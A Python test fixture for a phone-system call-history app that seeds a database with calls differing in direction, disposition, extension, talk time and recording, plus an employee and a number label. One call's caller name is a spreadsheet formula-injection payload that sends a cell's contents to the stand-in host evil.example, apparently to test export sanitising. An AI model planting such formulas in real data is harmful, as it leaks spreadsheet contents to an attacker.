"""Calls of a project that differ in all that a list of calls can be narrowed by."""

from datetime import UTC, datetime, timedelta
from typing import Any

from pbxhub.store.accounts import Employee, Number
from pbxhub.store.history import Call
from pbxhub.store.ids import new_id
from pbxhub.store.session import Database
from pbxhub.webhooks.phones import person_of

NINE = datetime(2026, 7, 10, 9, tzinfo=UTC)
RUN = '=HYPERLINK("https://evil.example/?"&A1)'
CALLS: dict[str, dict[str, Any]] = {
    "1.1": {"extension": "101", "talk": 60, "wait": 4, "recorded": True},
    "1.2": {"extension": "101", "disposition": "NO ANSWER", "caller": "0671112233", "wait": 20, "caller_name": RUN},
    "1.3": {"extension": "102", "talk": 5, "wait": 9, "dst": "0445556677"},
    "1.4": {"extension": "101", "talk": 600, "direction": "outgoing", "caller": "+380509998877",
            "dst": "+380509998877", "recorded": True},
    "1.5": {"extension": "102", "direction": "outgoing", "disposition": "BUSY", "dst": "+380671112233"},
    "1.6": {"extension": "", "disposition": "VOICEMAIL", "wait": 31},
    "1.7": {"extension": "101", "direction": "internal", "caller": "102", "dst": "101", "talk": 20},
    "live": {"extension": "103", "disposition": "", "talk": None, "ended_on": None},
}  # fmt: skip
"""By linkedid, an hour apart. What is left out is that of an answered call from +380441112233 to 380445556677."""


def make_calls(database: Database, project_id: int, pbx_id: int) -> int:
    """Makes CALLS, a card for Anna at 101, and a label for the DID. Returns the id of the card."""
    with database.write() as session:
        for number, (linkedid, given) in enumerate(CALLS.items()):
            began = NINE + timedelta(hours=number)
            row = {"direction": "incoming", "caller": "+380441112233", "dst": "380445556677", "started_on": began,
                   "ended_on": began + timedelta(minutes=1), "disposition": "ANSWERED", "talk": 0, **given}  # fmt: skip
            session.add(
                Call(
                    id=new_id(), project_id=project_id, pbx_id=pbx_id, linkedid=linkedid,
                    person=person_of(row["caller"], "UA"), **row,
                )
            )  # fmt: skip
        session.add(Number(project_id=project_id, pbx_id=pbx_id, did="380445556677", label="Site"))
        anna = Employee(project_id=project_id, extension="101", name="Anna")
        session.add(anna)
        session.flush()
        return anna.id
